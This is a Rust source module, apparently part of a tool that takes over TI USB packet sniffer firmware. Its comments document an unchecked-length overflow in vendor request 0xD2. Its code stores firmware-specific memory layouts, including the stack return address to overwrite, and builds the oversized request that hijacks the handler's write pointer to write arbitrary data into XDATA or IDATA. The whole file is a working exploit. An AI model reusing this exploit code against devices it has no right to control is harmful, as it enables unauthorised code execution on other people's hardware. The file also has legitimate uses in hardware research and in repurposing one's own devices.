//! Memory layouts of the stock TI packet sniffer firmware.
//!
//! The sniffer copies the body of vendor request `0xD2` into a buffer in
//! XDATA without checking its length. The state the request handler keeps
//! right behind that buffer includes a write pointer, the address space it
//! points into and the remaining length, so an oversized request can point
//! the rest of the transfer anywhere in XDATA or IDATA.

use crate::{Error, Result};
use bytes::{BufMut, Bytes, BytesMut};
use std::ops::Range;

/// SRAM the sniffer firmware leaves alone. It uses `0x01C0..0x03A0` and
/// `0x1E90..0x1EB0`, and `0x1F00..0x2000` is where IDATA shows up in XDATA.
pub const FREE_SPACE: Range<u16> = 0x03a0..0x1e90;

/// The handler advances the write pointer by this much before the first
/// byte is stored through it.
pub const WPTR_ADVANCE: u16 = 32;

/// Largest control transfer the host stack accepts.
pub const MAX_CONTROL_TRANSFER: usize = 4096;

/// Address space the hijacked write pointer refers to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AddressSpace {
    Xdata = 0,
    Idata = 1,
}

/// Absolute addresses of the request handler state for one firmware
/// revision.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct MemLayout {
    /// Start of the control transfer buffer.
    pub transfer_buf_start: u16,
    /// USB or endpoint state machine variable.
    pub usb_state: u16,
    /// Request handler state machine variable.
    pub req_state: u16,
    /// Request write pointer.
    pub wptr: u16,
    /// Address space of the write pointer.
    pub addrspace: u16,
    /// Remaining request length.
    pub wlen: u16,
    /// Data that ends up at `wptr + 32`.
    pub data: u16,
    /// IDATA address of the return address we overwrite.
    pub stack_ret: u8,
}

const LAYOUT_8391: MemLayout = MemLayout {
    transfer_buf_start: 0x020f,
    usb_state: 0x035d,
    req_state: 0x0364,
    wptr: 0x0371,
    addrspace: 0x0373,
    wlen: 0x0375,
    data: 0x038f,
    stack_ret: 0xc2,
};

const LAYOUT_0821: MemLayout = MemLayout {
    transfer_buf_start: 0x0202,
    usb_state: 0x0377,
    req_state: 0x037e,
    wptr: 0x038b,
    addrspace: 0x038d,
    wlen: 0x038f,
    data: 0x03a2,
    stack_ret: 0xc2,
};

/// Known firmware revisions, keyed by `bcdDevice`.
pub const LAYOUTS: &[(u16, MemLayout)] = &[
    (0x8391, LAYOUT_8391),
    (0x0821, LAYOUT_0821),
    (0x2517, LAYOUT_0821),
];

/// Looks up the layout for a firmware revision.
pub fn layout_for(bcd_device: u16) -> Result<&'static MemLayout> {
    LAYOUTS
        .iter()
        .find(|(bcd, _)| *bcd == bcd_device)
        .map(|(_, layout)| layout)
        .ok_or(Error::UnsupportedDevice(bcd_device))
}

impl MemLayout {
    /// Most data a single request can carry.
    pub fn max_data_len(&self) -> usize {
        MAX_CONTROL_TRANSFER - (self.data - self.transfer_buf_start) as usize
    }

    /// Builds the request body that makes the sniffer store `data` at
    /// `addr` in `space`.
    pub fn construct_request(&self, addr: u16, data: &[u8], space: AddressSpace) -> Result<Bytes> {
        let wptr = addr
            .checked_sub(WPTR_ADVANCE)
            .ok_or(Error::AddressOutOfRange(addr))?;
        if data.len() > self.max_data_len() {
            return Err(Error::PayloadTooBig {
                len: data.len(),
                max: self.max_data_len(),
            });
        }
        let wlen = data.len() as u16 + WPTR_ADVANCE;

        let mut request = BytesMut::with_capacity(MAX_CONTROL_TRANSFER);
        self.insert_at(&mut request, self.usb_state, &[2]);
        self.insert_at(&mut request, self.req_state, &[2]);
        self.insert_at(&mut request, self.wptr, &wptr.to_le_bytes());
        self.insert_at(&mut request, self.addrspace, &[space as u8]);
        self.insert_at(&mut request, self.wlen, &wlen.to_le_bytes());
        self.insert_at(&mut request, self.data, data);

        Ok(request.freeze())
    }

    /// Pads up to `addr` and puts `value` there. Fields go in ascending
    /// address order.
    fn insert_at(&self, request: &mut BytesMut, addr: u16, value: &[u8]) {
        let offset = (addr - self.transfer_buf_start) as usize;
        debug_assert!(offset >= request.len(), "layout fields out of order");
        insert_padding(request, offset - request.len());
        request.put_slice(value);
    }
}

fn insert_padding(request: &mut BytesMut, len: usize) {
    let padding = b"\0".repeat(len);
    request.put_slice(padding.as_slice());
}
